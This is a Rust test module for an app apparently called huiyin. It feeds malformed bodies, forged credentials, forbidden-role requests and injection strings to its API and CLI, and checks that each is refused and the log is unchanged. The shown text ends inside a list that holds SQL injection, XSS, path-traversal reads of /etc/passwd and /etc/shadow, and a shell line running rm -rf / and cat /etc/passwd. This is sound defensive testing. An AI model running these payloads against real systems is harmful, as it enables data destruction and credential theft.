//! Hostile input, table-driven, on both backends: through the real router (`tests/http`'s `Api`)
//! and through the real binary's `huiyin exec`. Every input gets its status (or exit code) and its
//! stable error code, and the log's size and Merkle root are the same afterwards.
//!
//! What `tests/http` already covers is not repeated here: forbidden roles on things that do not
//! exist (`every_role_the_command_table_forbids_gets_403`), a deputy's reads and ratings of a
//! plain item, and the life of a token or session. This module adds the inputs an attacker
//! chooses: broken, deep, huge, mistyped and mislabelled bodies; credentials in every wrong form;
//! every forbidden role against things that do exist; and strings meant to be interpreted.
//! Each test prints how many inputs it tried (RELIABILITY.md quotes the counts).

use aggregates::access::COMMANDS;
use aggregates::actor::Role;
use axum::body::Body;
use axum::http::{header, HeaderValue, Method, Request, StatusCode};
use infra::record::Hash;
use libtest_mimic::Trial;
use serde_json::{json, Value};

use crate::http::commands::sample_data;
use crate::http::{answered_item, command, file, request, Api, Cast};
use crate::support::{on_both, Fresh};

pub fn trials() -> Vec<Trial> {
    let mut trials = Vec::new();
    trials.extend(on_both(
        "hostile",
        "hostile_bodies_get_their_status_and_code_and_append_nothing",
        hostile_bodies_get_their_status_and_code_and_append_nothing,
    ));
    trials.extend(on_both(
        "hostile",
        "wrong_credentials_in_every_form_get_401_and_append_nothing",
        wrong_credentials_in_every_form_get_401_and_append_nothing,
    ));
    trials.extend(on_both(
        "hostile",
        "every_forbidden_role_is_refused_on_things_that_exist",
        every_forbidden_role_is_refused_on_things_that_exist,
    ));
    trials.extend(on_both(
        "hostile",
        "every_forbidden_role_is_refused_through_the_forms_too",
        every_forbidden_role_is_refused_through_the_forms_too,
    ));
    trials.extend(on_both(
        "hostile",
        "a_deputy_reaching_for_another_deputys_item_or_follow_is_refused",
        a_deputy_reaching_for_another_deputys_item_or_follow_is_refused,
    ));
    trials.extend(on_both(
        "hostile",
        "strings_that_look_like_sql_html_or_paths_read_back_verbatim_and_escaped_on_pages",
        strings_that_look_like_sql_html_or_paths_read_back_verbatim_and_escaped_on_pages,
    ));
    trials.extend(on_both(
        "hostile",
        "a_form_over_the_pages_limit_is_413_on_an_error_page_and_appends_nothing",
        a_form_over_the_pages_limit_is_413_on_an_error_page_and_appends_nothing,
    ));
    trials.extend(on_both(
        "hostile",
        "formula_like_texts_get_a_quote_in_csv_downloads_and_stay_strings_in_workbooks",
        formula_like_texts_get_a_quote_in_csv_downloads_and_stay_strings_in_workbooks,
    ));
    trials.extend(on_both(
        "hostile",
        "hostile_exec_lines_are_each_refused_and_append_nothing",
        hostile_exec_lines_are_each_refused_and_append_nothing,
    ));
    trials
}

/// The log as an auditor pins it: its size and its Merkle root.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct LogState {
    tree_size: u64,
    root: Hash,
}

pub async fn log_state(store: &dyn infra::store::EventStore) -> LogState {
    let tree_size = store.head().await.expect("head").tree_size;
    let root = store.root(tree_size).await.expect("root");
    LogState { tree_size, root }
}

/// Prints how many inputs a test tried; `cargo test -- --nocapture` shows it.
fn tried(test: &str, db: &Fresh, inputs: usize) {
    let backend = if db.url.starts_with("postgres") {
        "postgres"
    } else {
        "sqlite"
    };
    eprintln!("hostile::{backend}::{test}: {inputs} inputs tried");
}

// ---------------------------------------------------------------------------------------------
// Bodies.

/// One hostile body for `POST /api/commands`: what it is, its content type (none: no header),
/// its bytes, and the status and code it must get.
struct BodyCase {
    what: String,
    content_type: Option<&'static str>,
    bytes: Vec<u8>,
    status: StatusCode,
    code: &'static str,
}

fn case(
    what: impl Into<String>,
    content_type: Option<&'static str>,
    bytes: impl Into<Vec<u8>>,
    status: StatusCode,
    code: &'static str,
) -> BodyCase {
    BodyCase {
        what: what.into(),
        content_type,
        bytes: bytes.into(),
        status,
        code,
    }
}

const JSON: Option<&str> = Some("application/json");
const BAD_REQUEST: StatusCode = StatusCode::BAD_REQUEST;
const UNPROCESSABLE: StatusCode = StatusCode::UNPROCESSABLE_ENTITY;

/// A filing of `item` whose `data` has `field` set to `value` (raw JSON text).
fn filing_with(field: &str, value: &str) -> String {
    let mut data = json!({"item_id": "2024-H-900", "kind": "suggestion", "title": "标题",
                          "body": "正文", "deputies": [{"id": "d-1", "name": "王芳", "lead": true}]});
    data[field] = json!("\u{1}PLACEHOLDER\u{1}");
    let text = json!({"command_id": "h-900", "type": "FileItem",
                      "at": "2024-03-01T09:00:00+08:00", "data": data})
    .to_string();
    text.replace("\"\\u0001PLACEHOLDER\\u0001\"", value)
}

/// `[[[…]]]` nested `depth` levels.
fn nested_arrays(depth: usize) -> String {
    format!("{}{}", "[".repeat(depth), "]".repeat(depth))
}

fn syntax_cases() -> Vec<BodyCase> {
    let mut cases = Vec::new();
    for (what, text) in [
        ("an empty body", ""),
        ("only whitespace", " \n\t "),
        (
            "an unclosed object",
            r#"{"type":"FileItem","data":{"item_id":"#,
        ),
        ("a lone brace", "{"),
        ("single quotes", "{'type':'FileItem'}"),
        ("a trailing comma", r#"{"type":"FileItem","data":{},}"#),
        ("text after the value", r#"{"type":"FileItem","data":{}} x"#),
        ("two values", r#"{"type":"FileItem"}{"type":"FileItem"}"#),
        ("NaN", r#"{"type":"FileItem","data":{"item_id":NaN}}"#),
        (
            "Infinity",
            r#"{"type":"FileItem","data":{"item_id":Infinity}}"#,
        ),
        ("a comment", r#"{"type":"FileItem" /* x */ ,"data":{}}"#),
        ("a bare word", "FileItem"),
        (
            "a control character in a string",
            "{\"type\":\"File\u{1}Item\",\"data\":{}}",
        ),
        ("a bad escape", r#"{"type":"File\qItem","data":{}}"#),
        (
            "a lone surrogate escape",
            r#"{"type":"FileItem","data":{"item_id":"\ud800"}}"#,
        ),
        (
            "a number too large for a double",
            r#"{"type":"FileItem","data":{"n":1e400}}"#,
        ),
        (
            "a byte order mark",
            "\u{feff}{\"type\":\"FileItem\",\"data\":{}}",
        ),
    ] {
        cases.push(case(what, JSON, text, BAD_REQUEST, "invalid"));
    }
    for (what, bytes) in [
        (
            "invalid UTF-8 in a string",
            &b"{\"type\":\"FileItem\",\"data\":{\"item_id\":\"\xff\xfe\"}}"[..],
        ),
        (
            "an overlong UTF-8 encoding",
            b"{\"type\":\"FileItem\",\"data\":{\"title\":\"\xc0\xaf\"}}",
        ),
        (
            "an encoded surrogate",
            b"{\"type\":\"FileItem\",\"data\":{\"title\":\"\xed\xa0\x80\"}}",
        ),
        (
            "a truncated UTF-8 sequence",
            b"{\"type\":\"FileItem\",\"data\":{\"title\":\"\xe5\x9b\"}}",
        ),
        ("UTF-16", b"\xff\xfe{\x00}\x00"),
        ("NUL bytes", b"\x00\x00\x00\x00"),
    ] {
        cases.push(case(what, JSON, bytes.to_vec(), BAD_REQUEST, "invalid"));
    }
    // Nesting far past serde_json's limit of 128 levels, the body still under 64 KiB. At the top
    // the envelope's shape refuses it at the first level (422); inside `data`, which may hold any
    // JSON, the parser's depth limit does (400). Neither recurses without bound.
    for depth in [129, 1_000, 10_000] {
        let objects = format!("{}1{}", "{\"a\":".repeat(depth), "}".repeat(depth));
        for (shape, text) in [("arrays", nested_arrays(depth)), ("objects", objects)] {
            let what = format!("{shape} nested {depth} deep");
            cases.push(case(what, JSON, text, UNPROCESSABLE, "invalid"));
        }
    }
    for depth in [129, 1_000, 32_000] {
        let inside = format!(
            r#"{{"type":"FileItem","data":{{"item_id":"2024-H-1","title":{}}}}}"#,
            nested_arrays(depth)
        );
        let what = format!("data nested {depth} deep");
        cases.push(case(what, JSON, inside, BAD_REQUEST, "invalid"));
    }
    cases
}

fn shape_cases() -> Vec<BodyCase> {
    let mut cases = Vec::new();
    for (what, text) in [
        ("an array", "[]"),
        ("null", "null"),
        ("a number", "123"),
        ("a string", "\"FileItem\""),
        ("true", "true"),
        ("an empty object", "{}"),
        ("type as a number", r#"{"type":1,"data":{}}"#),
        ("type as null", r#"{"type":null,"data":{}}"#),
        (
            "command_id as a number",
            r#"{"command_id":7,"type":"FileItem","data":{}}"#,
        ),
        (
            "at as a number",
            r#"{"type":"FileItem","at":1709254800,"data":{}}"#,
        ),
        (
            "an unknown envelope field",
            r#"{"type":"FileItem","data":{},"sudo":true}"#,
        ),
        (
            "actor in the body",
            r#"{"type":"FileItem","actor":"admin-01","data":{}}"#,
        ),
        (
            "role in the body",
            r#"{"type":"FileItem","role":"admin","data":{}}"#,
        ),
        (
            "a duplicated type",
            r#"{"type":"FileItem","type":"CloseItem","data":{}}"#,
        ),
        (
            "data nested 100 deep (inside the parser's limit)",
            &format!(
                r#"{{"type":"FileItem","data":{{"item_id":"2024-H-1","title":{}}}}}"#,
                nested_arrays(100)
            ),
        ),
    ] {
        cases.push(case(what, JSON, text, UNPROCESSABLE, "invalid"));
    }
    cases.push(case(
        "an unknown command type",
        JSON,
        r#"{"type":"DropTable","data":{}}"#,
        UNPROCESSABLE,
        "unknown_command",
    ));
    cases.push(case(
        "an empty command type",
        JSON,
        r#"{"type":"","data":{}}"#,
        UNPROCESSABLE,
        "unknown_command",
    ));
    cases.push(case(
        "a command type with SQL",
        JSON,
        r#"{"type":"FileItem'; DROP TABLE events; --","data":{}}"#,
        UNPROCESSABLE,
        "unknown_command",
    ));
    cases
}

/// Fields of a filing set to what they must not be: each is 422 `invalid`.
fn field_cases() -> Vec<BodyCase> {
    let long_title = json!("标".repeat(201)).to_string();
    let long_body = json!("文".repeat(20_001)).to_string();
    let many_deputies = json!((0..51)
        .map(|n| json!({"id": format!("d-{n}"), "name": "代表"}))
        .collect::<Vec<_>>())
    .to_string();
    let fields: Vec<(&str, &str, String)> = vec![
        (
            "a huge integer as item_id",
            "item_id",
            "123456789012345678901234567890".into(),
        ),
        ("a negative number as item_id", "item_id", "-1".into()),
        ("a fraction as item_id", "item_id", "0.5".into()),
        ("an exponent as item_id", "item_id", "1e300".into()),
        ("a number as title", "title", "12".into()),
        ("an object as title", "title", "{}".into()),
        ("an array as body", "body", "[\"正文\"]".into()),
        ("a string as deputies", "deputies", "\"d-1\"".into()),
        ("a number as urgent", "urgent", "1".into()),
        ("a string as urgent", "urgent", "\"true\"".into()),
        ("an unknown kind", "kind", "\"petition\"".into()),
        ("an unknown field in data", "priority", "\"high\"".into()),
        ("an empty item_id", "item_id", "\"\"".into()),
        ("a blank item_id", "item_id", "\" \"".into()),
        ("an item_id with a space", "item_id", "\"2024 H 1\"".into()),
        ("an item_id with SQL", "item_id", "\"1' OR '1'='1\"".into()),
        ("an item_id with HTML", "item_id", "\"<b>1</b>\"".into()),
        ("an item_id with a NUL", "item_id", "\"a\\u0000b\"".into()),
        (
            "an item_id of 65 characters",
            "item_id",
            json!("x".repeat(65)).to_string(),
        ),
        ("an empty title", "title", "\"\"".into()),
        ("a whitespace-only title", "title", "\"  \\t\\n \"".into()),
        (
            "an ideographic-space title",
            "title",
            "\"\u{3000}\u{3000}\"".into(),
        ),
        ("a title of 201 characters", "title", long_title),
        ("a body of 20,001 characters", "body", long_body),
        ("no deputies", "deputies", "[]".into()),
        ("51 deputies", "deputies", many_deputies),
        (
            "a deputy with an unknown field",
            "deputies",
            r#"[{"id":"d-1","name":"王芳","x":1}]"#.into(),
        ),
        (
            "a deputy with an empty name",
            "deputies",
            r#"[{"id":"d-1","name":" "}]"#.into(),
        ),
        ("a parent that is a number", "parent_id", "9".into()),
    ];
    let mut cases: Vec<BodyCase> = fields
        .into_iter()
        .map(|(what, field, value)| {
            case(
                what,
                JSON,
                filing_with(field, &value),
                UNPROCESSABLE,
                "invalid",
            )
        })
        .collect();
    for (what, at) in [
        ("at without an offset", "\"2024-03-01T09:00:00\""),
        ("at in the year 99999", "\"99999-03-01T09:00:00+08:00\""),
        ("at before 1970", "\"1969-12-31T09:00:00+08:00\""),
        ("at as SQL", "\"now()); DROP TABLE events;--\""),
        ("at with a bad offset", "\"2024-03-01T09:00:00+25:00\""),
        ("at empty", "\"\""),
    ] {
        let text = filing_with("title", "\"标题\"").replace("\"2024-03-01T09:00:00+08:00\"", at);
        cases.push(case(what, JSON, text, UNPROCESSABLE, "invalid"));
    }
    for (what, command_id) in [
        ("an empty command_id", "\"\""),
        ("a command_id with a space", "\"a b\""),
        (
            "a command_id of 65 characters",
            &json!("c".repeat(65)).to_string(),
        ),
    ] {
        let text = filing_with("title", "\"标题\"").replace("\"h-900\"", command_id);
        cases.push(case(what, JSON, text, UNPROCESSABLE, "invalid"));
    }
    cases
}

fn content_type_cases() -> Vec<BodyCase> {
    let good = filing_with("title", "\"标题\"");
    let mut cases = Vec::new();
    for content_type in [
        None,
        Some("text/plain"),
        Some("text/plain; charset=utf-8"),
        Some("application/x-www-form-urlencoded"),
        Some("multipart/form-data; boundary=x"),
        Some("application/xml"),
        Some("text/html"),
        Some("application/jsonx"),
        Some("json"),
    ] {
        cases.push(case(
            format!("a JSON command sent as {content_type:?}"),
            content_type,
            good.clone(),
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            "invalid",
        ));
    }
    cases.push(case(
        "a form body labelled JSON",
        JSON,
        "type=FileItem&item_id=2024-H-1",
        BAD_REQUEST,
        "invalid",
    ));
    // Over 64 KiB: refused before it is parsed, whatever it holds.
    let large = format!(
        r#"{{"type":"FileItem","data":{{"title":"{}"}}}}"#,
        "x".repeat(70_000)
    );
    cases.push(case(
        "a 70 kB body",
        JSON,
        large,
        StatusCode::PAYLOAD_TOO_LARGE,
        "too_large",
    ));
    cases.push(case(
        "100,000 nested arrays (over 64 KiB)",
        JSON,
        nested_arrays(100_000),
        StatusCode::PAYLOAD_TOO_LARGE,
        "too_large",
    ));
    cases
}

async fn hostile_bodies_get_their_status_and_code_and_append_nothing(db: Fresh) {
    let api = Api::new(&db).await;
    let cast = Cast::of(&api).await;
    api.command(&cast.liaison, &file("2024-H-001", "d-1"))
        .await
        .expect(StatusCode::OK, None);
    let before = log_state(&*api.stores.events).await;
    let cases: Vec<BodyCase> = syntax_cases()
        .into_iter()
        .chain(shape_cases())
        .chain(field_cases())
        .chain(content_type_cases())
        .collect();
    let mut mismatches = Vec::new();
    for case in &cases {
        let mut builder = Request::builder()
            .method(Method::POST)
            .uri("/api/commands")
            .header(header::AUTHORIZATION, format!("Bearer {}", cast.liaison));
        if let Some(content_type) = case.content_type {
            builder = builder.header(header::CONTENT_TYPE, content_type);
        }
        let sent = builder
            .body(Body::from(case.bytes.clone()))
            .expect("request");
        let answer = api.send(sent).await;
        if (answer.status, answer.body["error"]["code"].as_str()) != (case.status, Some(case.code))
        {
            mismatches.push(format!("{}: {} {}", case.what, answer.status, answer.body));
            continue;
        }
        answer.expect(case.status, Some(case.code));
    }
    assert!(mismatches.is_empty(), "{}", mismatches.join("\n"));
    assert_eq!(log_state(&*api.stores.events).await, before);
    // The server is still well: the same good command as a well-labelled body is accepted.
    let good = filing_with("title", "\"标题\"");
    let mut accepted = request(Method::POST, "/api/commands", Some(&cast.liaison), None);
    *accepted.body_mut() = Body::from(good);
    accepted.headers_mut().insert(
        header::CONTENT_TYPE,
        HeaderValue::from_static("application/json; charset=utf-8"),
    );
    api.send(accepted).await.expect(StatusCode::OK, None);
    tried("hostile_bodies", &db, cases.len());
}

/// A filing form one byte over `FORM_BODY_BYTES_MAX`, announced by its Content-Length and
/// streamed without one, in Chinese and in English: each is 413 `too_large` on the pages' own
/// error page (not the API's JSON), and nothing is appended. A form at the limit is filed (see
/// `web::forms`).
async fn a_form_over_the_pages_limit_is_413_on_an_error_page_and_appends_nothing(db: Fresh) {
    let api = Api::new(&db).await;
    let session = crate::web::log_in(&api, "liaison-web", Role::Liaison).await;
    let before = log_state(&*api.stores.events).await;
    let mut form = serde_urlencoded::to_string([
        ("command", "FileItem"),
        ("csrf", session.csrf.as_str()),
        ("item_id", "2024-H-413"),
        ("kind", "suggestion"),
        ("title", "标题"),
        ("deputies.0.id", "d-1"),
        ("deputies.0.name", "王芳"),
        ("body", ""),
    ])
    .expect("form");
    form.push_str(&"x".repeat(huiyin::http::FORM_BODY_BYTES_MAX + 1 - form.len()));
    assert_eq!(form.len(), huiyin::http::FORM_BODY_BYTES_MAX + 1);
    let mut inputs = 0;
    for (lang, words) in [("zh", "提交的内容过大"), ("en", "too large")] {
        for announced in [true, false] {
            let cookie = format!("{}; huiyin_lang={lang}", session.cookie);
            let builder = Request::builder()
                .method(Method::POST)
                .uri("/forms")
                .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                .header(header::COOKIE, cookie);
            let sent = if announced {
                builder
                    .header(header::CONTENT_LENGTH, form.len())
                    .body(Body::from(form.clone()))
            } else {
                let chunks: Vec<Result<String, std::io::Error>> = form
                    .as_bytes()
                    .chunks(16 * 1024)
                    .map(|chunk| Ok(String::from_utf8(chunk.to_vec()).expect("ASCII")))
                    .collect();
                builder.body(Body::from_stream(futures::stream::iter(chunks)))
            }
            .expect("request");
            let page = crate::web::send(&api, sent).await;
            let html = page.expect_html(StatusCode::PAYLOAD_TOO_LARGE);
            assert!(
                html.contains(r#"<p id="flash" class="error" data-code="too_large">"#),
                "{html}"
            );
            assert!(html.contains(words), "{lang}: {html}");
            inputs += 1;
        }
    }
    assert_eq!(log_state(&*api.stores.events).await, before);
    tried("oversized_forms", &db, inputs);
}

// ---------------------------------------------------------------------------------------------
// Credentials.

async fn wrong_credentials_in_every_form_get_401_and_append_nothing(db: Fresh) {
    let api = Api::new(&db).await;
    let cast = Cast::of(&api).await;
    api.command(&cast.liaison, &file("2024-H-002", "d-1"))
        .await
        .expect(StatusCode::OK, None);
    let (expired, revoked) = expired_and_revoked_tokens(&api).await;
    let session = session_of(&api).await;
    let before = log_state(&*api.stores.events).await;
    let forged = format!("hy_{}", "0f".repeat(32));
    let long = format!("hy_{}", "a".repeat(10_000));
    let liaison = cast.liaison.clone();
    // (what, Authorization header bytes, Cookie header bytes)
    let cases: Vec<CredentialCase> = vec![
        ("no credential".into(), None, None),
        ("an empty Authorization".into(), Some(b"".to_vec()), None),
        (
            "Bearer without a token".into(),
            Some(b"Bearer".to_vec()),
            None,
        ),
        ("Bearer and a space".into(), Some(b"Bearer ".to_vec()), None),
        (
            "a forged token".into(),
            Some(format!("Bearer {forged}").into_bytes()),
            None,
        ),
        (
            "a 10 kB token".into(),
            Some(format!("Bearer {long}").into_bytes()),
            None,
        ),
        (
            "a token with SQL".into(),
            Some(b"Bearer ' OR 1=1 --".to_vec()),
            None,
        ),
        (
            "a real token with a byte more".into(),
            Some(format!("Bearer {liaison}x").into_bytes()),
            None,
        ),
        (
            "a real token cut short".into(),
            Some(format!("Bearer {}", &liaison[..liaison.len() - 1]).into_bytes()),
            None,
        ),
        (
            "a real token upper-cased".into(),
            Some(format!("Bearer {}", liaison.to_uppercase()).into_bytes()),
            None,
        ),
        (
            "a real token under another scheme".into(),
            Some(format!("Token {liaison}").into_bytes()),
            None,
        ),
        (
            "a real token without a scheme".into(),
            Some(liaison.clone().into_bytes()),
            None,
        ),
        (
            "Basic credentials".into(),
            Some(b"Basic bGlhaXNvbi0wMTpwdw==".to_vec()),
            None,
        ),
        (
            "an expired token".into(),
            Some(format!("Bearer {expired}").into_bytes()),
            None,
        ),
        (
            "a revoked token".into(),
            Some(format!("Bearer {revoked}").into_bytes()),
            None,
        ),
        (
            "a session value as a bearer token".into(),
            Some(format!("Bearer {session}").into_bytes()),
            None,
        ),
        (
            "non-UTF-8 bytes in Authorization".into(),
            Some(b"Bearer \xff\xfe".to_vec()),
            None,
        ),
        (
            "a forged session cookie".into(),
            None,
            Some(format!("huiyin_session={}", "ab".repeat(32)).into_bytes()),
        ),
        (
            "an empty session cookie".into(),
            None,
            Some(b"huiyin_session=".to_vec()),
        ),
        (
            "a bearer token as the session cookie".into(),
            None,
            Some(format!("huiyin_session={liaison}").into_bytes()),
        ),
        (
            "a session cookie with SQL".into(),
            None,
            Some(b"huiyin_session=' OR '1'='1".to_vec()),
        ),
        (
            "non-UTF-8 bytes in Cookie".into(),
            None,
            Some(b"huiyin_session=\xff".to_vec()),
        ),
        // A bad Authorization is not rescued by a good cookie: the header is what was meant.
        (
            "a forged token beside a valid cookie".into(),
            Some(format!("Bearer {forged}").into_bytes()),
            Some(format!("huiyin_session={session}").into_bytes()),
        ),
    ];
    let mut inputs = 0;
    for (what, authorization, cookie) in &cases {
        for (method, path, body) in [
            (Method::GET, "/api/board", None),
            (Method::GET, "/api/items/2024-H-002/trail", None),
            (Method::GET, "/api/export", None),
            (
                Method::POST,
                "/api/commands",
                Some(file("2024-H-401", "d-1")),
            ),
        ] {
            let mut sent = request(method, path, None, body.as_ref());
            if let Some(bytes) = authorization {
                let value = HeaderValue::from_bytes(bytes).expect("header bytes");
                sent.headers_mut().insert(header::AUTHORIZATION, value);
            }
            if let Some(bytes) = cookie {
                let value = HeaderValue::from_bytes(bytes).expect("header bytes");
                sent.headers_mut().insert(header::COOKIE, value);
            }
            let answer = api.send(sent).await;
            assert_eq!(
                answer.status,
                StatusCode::UNAUTHORIZED,
                "{what} {path}: {:#}",
                answer.body
            );
            answer.expect(StatusCode::UNAUTHORIZED, Some("unauthenticated"));
            inputs += 1;
        }
    }
    assert_eq!(log_state(&*api.stores.events).await, before);
    tried("wrong_credentials", &db, inputs);
}

/// What a credential case is, its Authorization header's bytes and its Cookie header's bytes.
type CredentialCase = (String, Option<Vec<u8>>, Option<Vec<u8>>);

/// A token that has expired and one that was revoked, both of a liaison officer.
async fn expired_and_revoked_tokens(api: &Api) -> (String, String) {
    let now = commands::Clock::now(&*api.clock);
    let credentials = &*api.stores.credentials;
    let hour = std::time::Duration::from_secs(60 * 60);
    let expired = huiyin::auth::issue_token(credentials, "liaison-03", Role::Liaison, now, hour)
        .await
        .expect("issue");
    let revoked =
        huiyin::auth::issue_token(credentials, "liaison-04", Role::Liaison, now, hour * 48)
            .await
            .expect("issue");
    let stored = credentials
        .token(&huiyin::auth::secret::digest(&revoked.token))
        .await
        .expect("lookup")
        .expect("stored");
    assert!(credentials
        .revoke_token(&stored.token_id, now)
        .await
        .expect("revoke"));
    api.clock.advance(hour);
    (expired.token, revoked.token)
}

/// A live session cookie value of a liaison officer.
async fn session_of(api: &Api) -> String {
    api.password("liaison-05", &[Role::Liaison], "a password long enough")
        .await;
    let login = api
        .post(
            "/login",
            None,
            &json!({"person_id": "liaison-05", "password": "a password long enough"}),
        )
        .await;
    login.expect(StatusCode::OK, None);
    let set = login.headers[header::SET_COOKIE].to_str().expect("ascii");
    let pair = set.split(';').next().expect("pair");
    pair["huiyin_session=".len()..].to_owned()
}

// ---------------------------------------------------------------------------------------------
// Roles and ownership.

/// The id of the thing of each stream kind that exists in `every_forbidden_role…`.
fn existing_target(command_type: &str) -> &'static str {
    let rule = aggregates::access::command_rule(command_type).expect("a known command");
    match rule.stream.id_field() {
        "item_id" => "2024-H-030",
        "follow_id" => "F-H-1",
        "engagement_id" => "E-H-1",
        _ => "p-h-1",
    }
}

async fn every_forbidden_role_is_refused_on_things_that_exist(db: Fresh) {
    let api = Api::new(&db).await;
    let cast = Cast::of(&api).await;
    answered_item(&api, &cast, "2024-H-030", "d-1").await;
    for (token, kind, id) in [
        (&cast.office, "StartCaseFollow", "F-H-1"),
        (&cast.liaison, "RecordEngagement", "E-H-1"),
        (&cast.admin, "RegisterPerson", "p-h-1"),
    ] {
        let body = command(
            &format!("seed-{id}"),
            kind,
            "2024-03-01T09:00:00+08:00",
            sample_data(kind, id),
        );
        api.command(token, &body).await.expect(StatusCode::OK, None);
    }
    let before = log_state(&*api.stores.events).await;
    let mut tokens = Vec::new();
    for role in Role::ALL {
        let person = format!("{}-8", role.as_str().replace('_', "-"));
        tokens.push((role, api.token(&person, role).await));
    }
    let mut inputs = 0;
    for rule in COMMANDS {
        for (role, token) in &tokens {
            if rule.roles.contains(role) {
                continue;
            }
            inputs += 1;
            let body = command(
                &format!("forbidden-{inputs}"),
                rule.command,
                "2024-05-25T09:00:00+08:00",
                sample_data(rule.command, existing_target(rule.command)),
            );
            let answer = api.command(token, &body).await;
            assert_eq!(
                answer.status,
                StatusCode::FORBIDDEN,
                "{} as {role} on {}: {:#}",
                rule.command,
                existing_target(rule.command),
                answer.body
            );
            answer.expect(StatusCode::FORBIDDEN, Some("forbidden"));
        }
    }
    assert!(inputs >= COMMANDS.len() * 4, "{inputs}");
    assert_eq!(log_state(&*api.stores.events).await, before);
    tried("forbidden_roles_on_existing_things", &db, inputs);
}

/// `data` as a form posts it: nested fields with dots (`leader.id`, `deputies.0.name`), yes/no as
/// `true`/`false` (see docs/web.md).
fn form_fields(data: &Value) -> Vec<(String, String)> {
    fn walk(prefix: &str, value: &Value, fields: &mut Vec<(String, String)>) {
        match value {
            Value::Object(object) => {
                for (name, inner) in object {
                    let path = if prefix.is_empty() {
                        name.clone()
                    } else {
                        format!("{prefix}.{name}")
                    };
                    walk(&path, inner, fields);
                }
            }
            Value::Array(list) => {
                for (index, inner) in list.iter().enumerate() {
                    walk(&format!("{prefix}.{index}"), inner, fields);
                }
            }
            Value::String(text) => fields.push((prefix.to_owned(), text.clone())),
            other => fields.push((prefix.to_owned(), other.to_string())),
        }
    }
    let mut fields = Vec::new();
    walk("", data, &mut fields);
    fields
}

/// The sweep of `every_forbidden_role_is_refused_on_things_that_exist` through `POST /forms`:
/// every item command a role may not issue, posted as that role's form (with its session's
/// CSRF token) about an answered item that names the deputy, is the page again with 403
/// `forbidden`, and nothing is appended.
async fn every_forbidden_role_is_refused_through_the_forms_too(db: Fresh) {
    let api = Api::new(&db).await;
    let cast = Cast::of(&api).await;
    answered_item(&api, &cast, "2024-H-031", "d-1").await;
    let before = log_state(&*api.stores.events).await;
    let mut sessions = Vec::new();
    for role in Role::ALL {
        let person = if role == Role::Deputy {
            "d-1".to_owned()
        } else {
            format!("{}-9", role.as_str().replace('_', "-"))
        };
        sessions.push((role, crate::web::log_in(&api, &person, role).await));
    }
    let mut inputs = 0;
    let mut wrong = Vec::new();
    for rule in COMMANDS {
        if rule.stream != aggregates::access::StreamKind::Item {
            continue;
        }
        for (role, session) in &sessions {
            if rule.roles.contains(role) {
                continue;
            }
            inputs += 1;
            let target = if rule.command == "FileItem" {
                "2024-H-032"
            } else {
                "2024-H-031"
            };
            let mut data = sample_data(rule.command, target);
            if rule.command == "FileItem" {
                // A form leaves an empty field out; a filing's body is not optional.
                data["body"] = json!("正文");
            }
            let fields = form_fields(&data);
            let fields: Vec<(&str, &str)> = fields
                .iter()
                .map(|(name, value)| (name.as_str(), value.as_str()))
                .collect();
            let page = crate::web::post_form(&api, session, rule.command, &fields).await;
            let html = page.html();
            if page.status != StatusCode::FORBIDDEN || !html.contains(r#"data-code="forbidden""#) {
                let code = html
                    .split("data-code=\"")
                    .nth(1)
                    .and_then(|rest| rest.split('"').next());
                wrong.push(format!(
                    "{} as {role}: {} {code:?}",
                    rule.command, page.status
                ));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert!(inputs >= 40, "{inputs}");
    assert_eq!(log_state(&*api.stores.events).await, before);
    tried("forbidden_roles_through_forms", &db, inputs);
}

async fn a_deputy_reaching_for_another_deputys_item_or_follow_is_refused(db: Fresh) {
    let api = Api::new(&db).await;
    let cast = Cast::of(&api).await;
    answered_item(&api, &cast, "2024-H-040", "d-2").await;
    let follow = command(
        "seed-follow",
        "StartCaseFollow",
        "2024-03-01T09:00:00+08:00",
        json!({"follow_id": "F-H-2", "case_no": "(2024)X0101执2号",
               "deputy": {"id": "d-2", "name": "李强"}, "judge": {"id": "j-1", "name": "赵明"}}),
    );
    api.command(&cast.office, &follow)
        .await
        .expect(StatusCode::OK, None);
    let before = log_state(&*api.stores.events).await;
    let mut inputs = 0;
    for path in [
        "/api/items/2024-H-040",
        "/api/items/2024-H-040/trail",
        "/api/items/2024-H-040?now=2024-07-01",
    ] {
        inputs += 1;
        api.get(path, Some(&cast.deputy))
            .await
            .expect(StatusCode::FORBIDDEN, Some("forbidden"));
    }
    // The board answers, without the other deputy's item.
    inputs += 1;
    let board = api.get("/api/board", Some(&cast.deputy)).await;
    board.expect(StatusCode::OK, None);
    assert_eq!(board.body["items"], json!([]), "{:#}", board.body);
    for (kind, data) in [
        (
            "RateAnswer",
            json!({"item_id": "2024-H-040", "rating": "unsatisfied", "comment": "不满意"}),
        ),
        (
            "RateAnswer",
            json!({"item_id": "2024-H-040", "rating": "satisfied"}),
        ),
        (
            "RecordFollowEvaluation",
            json!({"follow_id": "F-H-2", "rating": "unsatisfied", "comment": ""}),
        ),
    ] {
        inputs += 1;
        let body = command(
            &format!("reach-{inputs}"),
            kind,
            "2024-05-25T09:00:00+08:00",
            data,
        );
        api.command(&cast.deputy, &body)
            .await
            .expect(StatusCode::FORBIDDEN, Some("forbidden"));
    }
    assert_eq!(log_state(&*api.stores.events).await, before);
    // The deputy the item names rates it.
    let rate = command(
        "own-rate",
        "RateAnswer",
        "2024-05-25T09:00:00+08:00",
        json!({"item_id": "2024-H-040", "rating": "satisfied"}),
    );
    api.command(&cast.other_deputy, &rate)
        .await
        .expect(StatusCode::OK, None);
    tried("deputy_reach", &db, inputs);
}

// ---------------------------------------------------------------------------------------------
// Strings meant to be interpreted.

/// Texts that mean something to SQL, HTML, a shell, a path resolver or a terminal.
pub fn interpreted_texts() -> Vec<&'static str> {
    vec![
        "'; DROP TABLE events; --",
        "Robert'); DELETE FROM commands WHERE ('1'='1",
        "1' OR '1'='1' /*",
        "$$; TRUNCATE ledger_head; $$",
        "<script>alert('回音')</script>",
        "\"><img src=x onerror=alert(1)>",
        "<!-- --><![CDATA[ ]]>&amp;&lt;&#x27;",
        "javascript:alert(document.cookie)",
        "{{7*7}} ${7*7} <%= 7*7 %>",
        "../../../../etc/passwd",
        "..\\..\\Windows\\System32\\config\\SAM",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "file:///etc/shadow",
        "$(rm -rf /) `id` | cat /etc/passwd; echo",
